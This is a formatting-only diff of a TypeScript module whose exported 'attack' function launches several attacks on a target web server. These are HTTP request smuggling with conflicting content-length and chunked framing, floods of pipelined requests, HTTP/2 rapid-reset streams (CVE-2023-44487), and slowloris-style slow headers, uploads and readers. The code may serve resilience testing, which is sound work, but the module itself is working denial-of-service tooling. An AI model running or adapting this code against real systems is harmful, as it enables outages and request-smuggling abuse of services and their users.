@@ -26,13 +26,7 @@ const send = (port: number, bytes: string, forMs = 3000): Promise<void> =>
   })
 
 /** Keep so many connections busy with what is written to them when they open, and now and then after. */
-const hold = (
-  port: number,
-  first: string,
-  more: string,
-  count: number,
-  going: () => boolean,
-): (() => void) => {
+const hold = (port: number, first: string, more: string, count: number, going: () => boolean): (() => void) => {
   const sockets = new Set<Socket>()
   const open = (): void => {
     if (!going() || sockets.size >= count) return
@@ -56,28 +50,38 @@ const hold = (
   return open
 }
 
-const smuggle = async (
-  { httpPort, host }: Target,
-  going: () => boolean,
-  count: () => void,
-): Promise<void> => {
+const smuggle = async ({ httpPort, host }: Target, going: () => boolean, count: () => void): Promise<void> => {
   const methods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST']
   for (let i = 0; going(); i++) {
     count()
     const method = methods[i % methods.length]
-    const framing = i % 2 === 0 ? `connection: keep-alive, content-length\r\ncontent-length: ${SMUGGLED.length}` : 'connection: transfer-encoding\r\ntransfer-encoding: chunked' // prettier-ignore
+    const framing =
+      i % 2 === 0
+        ? `connection: keep-alive, content-length\r\ncontent-length: ${SMUGGLED.length}`
+        : 'connection: transfer-encoding\r\ntransfer-encoding: chunked'
     const content = i % 2 === 0 ? SMUGGLED : `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`
-    await send(httpPort, `${method} /page/${i % 60}?x=${i % 7} HTTP/1.1\r\nhost: ${host}\r\n${framing}\r\n\r\n${content}`, 500) // prettier-ignore
+    await send(
+      httpPort,
+      `${method} /page/${i % 60}?x=${i % 7} HTTP/1.1\r\nhost: ${host}\r\n${framing}\r\n\r\n${content}`,
+      500,
+    )
   }
 }
 
 const floodWithQueries = async ({ httpPort, host }: Target, going: () => boolean, count: () => void): Promise<void> => {
   while (going()) {
     count()
-    const lines = Array.from({ length: 20 }, () => `GET /page/1?made-up=${Math.random()} HTTP/1.1\r\nhost: ${host}\r\n\r\n`)
-    await send(httpPort, `${lines.join('')}GET //?zest-trial-key=${Math.random()} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`, 2000) // prettier-ignore
+    const lines = Array.from(
+      { length: 20 },
+      () => `GET /page/1?made-up=${Math.random()} HTTP/1.1\r\nhost: ${host}\r\n\r\n`,
+    )
+    await send(
+      httpPort,
+      `${lines.join('')}GET //?zest-trial-key=${Math.random()} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`,
+      2000,
+    )
   }
-} // prettier-ignore
+}
 
 /** Streams of HTTP/2 that are begun and given up at once ("rapid reset", CVE-2023-44487). */
 const resetStreams = async ({ httpsPort, host }: Target, going: () => boolean, count: () => void): Promise<void> => {
@@ -97,7 +101,7 @@ const resetStreams = async ({ httpsPort, host }: Target, going: () => boolean, c
       })
     })
   }
-} // prettier-ignore
+}
 
 /**
  * Begin all attacks.
@@ -115,10 +119,23 @@ export const attack = (target: Target, going: () => boolean, streams: string | u
   begin('smuggled requests', (count) => smuggle(target, going, count))
   begin('floods of made-up addresses', (count) => floodWithQueries(target, going, count))
   begin('streams reset at once', (count) => resetStreams(target, going, count))
-  begin('slow headers', () => void hold(httpPort, `GET / HTTP/1.1\r\nhost: ${host}\r\n`, 'x-a: b\r\n', 100, going)) // prettier-ignore
-  begin('slow uploads', () => void hold(httpPort, `POST /upload HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding: chunked\r\n\r\n`, '1\r\nx\r\n', 100, going)) // prettier-ignore
-  begin('slow readers', () => void hold(httpPort, `GET /page/1 HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(50), '', 100, going)) // prettier-ignore
+  begin('slow headers', () => void hold(httpPort, `GET / HTTP/1.1\r\nhost: ${host}\r\n`, 'x-a: b\r\n', 100, going))
+  begin(
+    'slow uploads',
+    () =>
+      void hold(
+        httpPort,
+        `POST /upload HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding: chunked\r\n\r\n`,
+        '1\r\nx\r\n',
+        100,
+        going,
+      ),
+  )
+  begin(
+    'slow readers',
+    () => void hold(httpPort, `GET /page/1 HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(50), '', 100, going),
+  )
   if (streams !== undefined)
-    begin('stream hogs', () => void hold(httpPort, `GET ${streams} HTTP/1.1\r\nhost: ${host}\r\n\r\n`, '', 100, going)) // prettier-ignore
+    begin('stream hogs', () => void hold(httpPort, `GET ${streams} HTTP/1.1\r\nhost: ${host}\r\n\r\n`, '', 100, going))
   return begun
 }
